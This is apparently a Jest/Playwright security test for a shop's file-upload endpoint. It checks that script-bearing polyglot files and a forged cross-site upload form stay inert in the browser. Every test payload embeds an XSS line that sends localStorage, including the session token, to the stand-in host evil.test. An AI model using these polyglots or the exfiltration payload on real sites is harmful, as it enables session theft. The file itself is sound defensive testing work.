// Keeps page.goto for deep URLs (issue 20 lets URL tests keep them): it checks what the file and API URLs
// answer a browser, and an attacker's page, none of which a tap of the app leads to.
import { createHmac } from 'node:crypto';
import { type Server, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { Client } from '../messaging/helpers';
import { recordReliability } from '../support/reliability';
import { launchChromium } from './support/browser';
import { type RunningShop, startShop } from './support/server';

jest.setTimeout(300_000);

/**
 * Files a shopper stores through the messaging server's /oss, opened in Chromium on the shop's origin, where
 * the session token lives: an SVG/HTML/polyglot corpus either never gets stored, or is served as the image,
 * video or download its bytes are (sniffed type, nosniff, a sandboxing CSP), so no script of it runs. The
 * review's one-click theft, a cross-site form that posts a policy with markup to /oss so that its XML error
 * page renders on the shop's origin, runs nothing either. A script that runs is seen as a dialog or as its
 * request to the evil.test host, which carries what it could read of the shop's storage.
 */
const STEAL = "fetch('http://evil.test/steal?'+encodeURIComponent(JSON.stringify(localStorage)));alert(1)";

const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
const CORPUS: { name: string; body: Buffer }[] = [
  { name: 'x.svg', body: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${STEAL}"/>`) },
  { name: 'x.html', body: Buffer.from(`<script>${STEAL}</script>`) },
  { name: 'x.xhtml', body: Buffer.from(`<html xmlns="http://www.w3.org/1999/xhtml"><script>${STEAL}</script></html>`) },
  {
    name: 'ns.jpg',
    body: Buffer.from(
      `<svg xmlns="http://www.w3.org/2000/svg"><x:script xmlns:x="http://www.w3.org/1999/xhtml">${STEAL}</x:script></svg>`,
    ),
  },
  {
    name: 'entity.png',
    body: Buffer.from(
      `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY e "&#60;script&#62;${STEAL}&#60;/script&#62;">]><html xmlns="http://www.w3.org/1999/xhtml">&e;</html>`,
    ),
  },
  {
    name: 'gif.gif',
    body: Buffer.concat([Buffer.from('GIF89a'), Buffer.from(`<html><script>${STEAL}</script></html>`)]),
  },
  {
    name: 'png.png',
    body: Buffer.concat([png, Buffer.from(`<svg onload="${STEAL}"><script>${STEAL}</script></svg>`)]),
  },
  {
    name: 'clip.mp4',
    body: Buffer.concat([Buffer.from('00000018667479706d703432', 'hex'), Buffer.from(`<script>${STEAL}</script>`)]),
  },
  { name: 'notes.txt', body: Buffer.from(`${'plain words '.repeat(300)}<script>${STEAL}</script>`) },
  { name: 'page.pdf', body: Buffer.from(`%PDF-1.4 <html><body onload="${STEAL}">`) },
  { name: 'README', body: Buffer.from(`<!doctype html><script>${STEAL}</script>`) },
];

interface Watch {
  dialogs: string[];
  stolen: string[];
}

let shop: RunningShop;
let browser: Browser;
let attacker: Server;
let attackerUrl: string;
const sockets: Client[] = [];

async function api<T = any>(path: string, body: unknown, token = ''): Promise<T> {
  const response = await fetch(`${shop.url}${path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...(token ? { 'lensmate-token': token } : {}) },
    body: JSON.stringify(body),
  });
  const answer = (await response.json()) as { status: number; msg: string; data: T };
  if (answer.status !== 200) throw new Error(`${path}: ${answer.msg}`);
  return answer.data;
}

/** A page of a signed-in shopper (the token in the shop's storage) whose script runs, if any, are recorded. */
async function shopperPage(watch: Watch): Promise<Page> {
  const context = await browser.newContext({ acceptDownloads: false });
  await context.route('http://evil.test/**', (route) => {
    watch.stolen.push(route.request().url());
    return route.abort();
  });
  const page = await context.newPage();
  page.on('dialog', (dialog) => {
    watch.dialogs.push(`${page.url()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.goto(`${shop.url}/api/config/shop_config`);
  await page.evaluate(() => localStorage.setItem('lensmate-session', 'the shopper token'));
  return page;
}

/** Opens `url` and lets whatever it would run run: a download (a file served as one) ends the navigation. */
async function open(page: Page, url: string): Promise<void> {
  await page.goto(url, { waitUntil: 'load' }).catch((error: Error) => {
    if (!/Download is starting|net::ERR_ABORTED/.test(error.message)) throw error;
  });
  await page.waitForTimeout(300);
}

beforeAll(async () => {
  shop = await startShop({ AUTH_RATE_LIMIT_MAX: '100' });
  browser = await launchChromium();
  attacker = createServer((request, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(decodeURIComponent((request.url ?? '/').slice(1)));
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
});

afterAll(async () => {
  for (const socket of sockets) socket.close();
  await browser?.close();
  await new Promise((resolve) => attacker?.close(resolve));
  await shop?.stop();
});

it('stores no markup, and opens every stored polyglot as inert media or a download', async () => {
  const ada = await api<{ user_id: number; token: string }>('/api/auth/login', {
    email: 'ada@lensmate.test',
    password: 'Shopper#2026a',
  });
  const proof = await api<{ otp: string; userId: string }>('/api/messaging/token', {}, ada.token);
  const socket = new Client(shop.url);
  sockets.push(socket);
  expect((await socket.authorize({ userId: proof.userId, otp: proof.otp })).code).toBe(200);
  const watch: Watch = { dialogs: [], stolen: [] };
  const page = await shopperPage(watch);
  const stored: { name: string; type: string }[] = [];
  let refused = 0;
  for (const { name, body } of CORPUS) {
    const answer = await socket.request('uploadToken', { filename: name });
    if (answer.code !== 200) {
      refused += 1;
      continue;
    }
    const token = answer.content;
    const form = new FormData();
    const key = `${token.dir}/${token.newFilename}`;
    for (const [field, value] of Object.entries({
      key,
      OSSAccessKeyId: token.accessKeyId,
      policy: token.policy,
      signature: token.signature,
      success_action_status: '200',
    })) {
      form.append(field, value as string);
    }
    form.append('file', new Blob([new Uint8Array(body)]), name);
    const upload = await fetch(token.host, { method: 'POST', body: form });
    if (upload.status !== 200) {
      refused += 1;
      continue;
    }
    const url = `${token.host}/${key}`;
    const served = await fetch(url);
    stored.push({ name, type: String(served.headers.get('content-type')) });
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-security-policy')).toContain('sandbox');
    await open(page, url);
  }
  // Markup is refused by name or by content; what is stored is what its bytes are.
  expect(stored).toEqual([
    { name: 'gif.gif', type: 'image/gif' },
    { name: 'png.png', type: 'image/png' },
    { name: 'clip.mp4', type: 'video/mp4' },
    { name: 'notes.txt', type: 'application/octet-stream' },
  ]);
  expect(refused).toBe(CORPUS.length - stored.length);
  expect(watch).toEqual({ dialogs: [], stolen: [] });
  recordReliability({ suite: 'attack-oss-browser', payloads: CORPUS.length, refused: CORPUS.length });
});

it('renders nothing of a cross-site form that posts a policy with markup to /oss', async () => {
  const watch: Watch = { dialogs: [], stolen: [] };
  const page = await shopperPage(watch);
  const markup = `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${STEAL}</x:script>`;
  const policyFor = (secret: string) => {
    const policy = Buffer.from(
      JSON.stringify({
        expiration: new Date(Date.now() + 60_000).toISOString(),
        conditions: [['starts-with', '$key', markup]],
      }),
    ).toString('base64');
    return { policy, signature: createHmac('sha1', secret).update(policy).digest('base64') };
  };
  // With the secret that used to be the default, and with a guess: neither is the server's.
  const attempts = ['lensmate-local-secret', 'secret'];
  for (const secret of attempts) {
    const { policy, signature } = policyFor(secret);
    const fields = { key: 'im/x', OSSAccessKeyId: 'lensmate-local', policy, signature };
    const inputs = Object.entries(fields)
      .map(([name, value]) => `<input type="hidden" name="${name}" value="${value}">`)
      .join('');
    // The form carries a file (set through a DataTransfer), so the server reads the policy and answers about it.
    const attackPage = `<form id="f" method="post" enctype="multipart/form-data" action="${shop.url}/oss">${inputs}<input type="file" name="file" id="file"></form><script>const files = new DataTransfer(); files.items.add(new File(['x'], 'x.txt')); document.getElementById('file').files = files.files; document.getElementById('f').submit();</script>`;
    await page.goto(`${attackerUrl}/${encodeURIComponent(attackPage)}`);
    await page.waitForURL(`${shop.url}/oss`);
    await page.waitForLoadState('load');
    await page.waitForTimeout(300);
    const shown = await page.content();
    expect(shown).not.toContain('<x:script');
  }
  expect(watch).toEqual({ dialogs: [], stolen: [] });
  recordReliability({ suite: 'attack-oss-browser', payloads: attempts.length, refused: attempts.length });
});
